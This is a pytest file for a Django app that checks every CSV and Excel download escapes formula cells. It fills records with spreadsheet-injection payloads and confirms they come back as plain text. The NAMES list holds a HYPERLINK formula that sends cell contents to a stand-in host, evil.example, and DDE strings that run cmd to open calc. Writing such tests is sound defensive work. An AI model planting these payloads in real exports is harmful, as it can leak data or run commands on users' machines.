"""Formula cells neutralised in every download: each CSV or Excel route of the URLconf (a route
ending `.<fmt>`), filled with a world whose every region, system and organisation is named to
run as a formula, and read back as a spreadsheet would read it."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from assessments.models import Organisation, Region, System
from assessments.spreadsheets import DANGEROUS_STARTS
from tests.factories import PersonaFactory
from tests.reports import small_world
from tests.security.routes import all_routes, expand

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent.parent
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _downloads():
    return [route for route in all_routes() if route.route.endswith(".<str:fmt>")]


def _cells(response) -> list[str]:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    book = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value is not None:
                    cells.append(str(cell.value))
    return cells


def test_every_download_writes_dangerous_names_as_plain_text():
    round_, *_ = small_world.build()
    for index, model in enumerate((Region, System, Organisation)):
        for n, pk in enumerate(model.objects.order_by("pk").values_list("pk", flat=True)):
            name = NAMES[(n + index) % len(NAMES)] + f" {model.__name__} {n}"
            model.objects.filter(pk=pk).update(name=name)
    client = Client()
    client.force_login(PersonaFactory(username="national", role="national_admin"))
    values = {
        ("rounds", "pk"): [round_.pk],
        ("rounds", "round_id"): [round_.pk],
        ("systems", "ods_code"): ["QWO"],
        (None, "scope"): ["region", "system"],
        ("region", "code"): ["Y63"],
        ("system", "code"): ["QWO"],
        (None, "fmt"): ["csv", "xlsx"],
    }
    routes = _downloads()
    assert len(routes) >= 5
    seen, files = set(), 0
    for route in routes:
        for url in expand(route, values):
            response = client.get(url)
            assert response.status_code == 200, url
            files += 1
            for cell in _cells(response):
                assert not cell.startswith(DANGEROUS_STARTS), (url, cell)
                for name in NAMES:
                    if cell.startswith("'" + name):
                        seen.add(name)
    assert files >= 10
    assert seen == set(NAMES), set(NAMES) - seen


def test_no_module_but_spreadsheets_writes_a_csv_or_a_workbook():
    """Every download goes through assessments/spreadsheets.py, the one writer that
    neutralises formulas."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|to_csv\(|to_excel\(")
    found = []
    for folder in ("assessments", "reports", "frameworks", "config"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "spreadsheets.py" and path.parent.name == "assessments":
                continue
            if writers.search(path.read_text()):
                found.append(str(path.relative_to(ROOT)))
    assert found == []
